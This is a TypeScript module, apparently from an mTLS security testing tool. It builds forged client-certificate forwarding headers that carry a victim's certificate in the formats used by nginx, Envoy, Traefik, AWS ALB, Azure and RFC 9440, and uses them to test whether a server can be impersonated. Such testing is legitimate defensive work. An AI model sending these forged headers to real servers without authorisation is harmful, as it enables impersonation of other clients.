import { createHash } from 'node:crypto';
import { x509 } from '../../certs/x509.js';
import type { Identity } from '../../tls/identity.js';

/**
 * The victim's certificate as a TLS-terminating proxy would forward it, one header per common
 * deployment, each in that deployment's usual encoding (CATALOG.md BIND-06). A server that reads
 * any of these from a client-sent request can be impersonated (RFC 8705 §7.3 / §6.5).
 */
export interface ForwardedHeader {
  name: string;
  /** Who uses it, for the report. */
  convention: string;
  value: string;
}

export function forwardedCertHeaders(
  victim: Identity,
  extraNames: readonly string[] = [],
): ForwardedHeader[] {
  const der = Buffer.from(victim.leafDer);
  const base64Der = der.toString('base64');
  // The PEM armour alone (no parse of the certificate), without a trailing newline.
  const pem = x509.PemConverter.encode(new Uint8Array(der), 'CERTIFICATE');
  const escapedPem = encodeURIComponent(pem);
  const sha256Hex = createHash('sha256').update(der).digest('hex');
  const headers: ForwardedHeader[] = [
    { name: 'Client-Cert', convention: 'RFC 9440 (:base64 DER:)', value: `:${base64Der}:` },
    { name: 'X-SSL-Client-Cert', convention: 'nginx $ssl_client_escaped_cert', value: escapedPem },
    { name: 'X-Client-Cert', convention: 'URL-encoded PEM', value: escapedPem },
    { name: 'ssl-client-cert', convention: 'URL-encoded PEM (lower case)', value: escapedPem },
    {
      name: 'X-Forwarded-Client-Cert',
      convention: 'Envoy XFCC',
      value: `Hash=${sha256Hex};Cert="${escapedPem}";Subject="${victim.subject.replace(/"/g, '\\"')}"`,
    },
    {
      name: 'X-Forwarded-Tls-Client-Cert',
      convention: 'Traefik (base64 DER)',
      value: base64Der,
    },
    { name: 'X-Amzn-Mtls-Clientcert', convention: 'AWS ALB (URL-encoded PEM)', value: escapedPem },
    { name: 'X-ARR-ClientCert', convention: 'Azure App Service (base64 DER)', value: base64Der },
  ];
  const known = new Set(headers.map((h) => h.name.toLowerCase()));
  for (const name of extraNames) {
    if (known.has(name.toLowerCase())) continue;
    headers.push({
      name,
      convention: 'from the target config (URL-encoded PEM)',
      value: escapedPem,
    });
  }
  return headers;
}
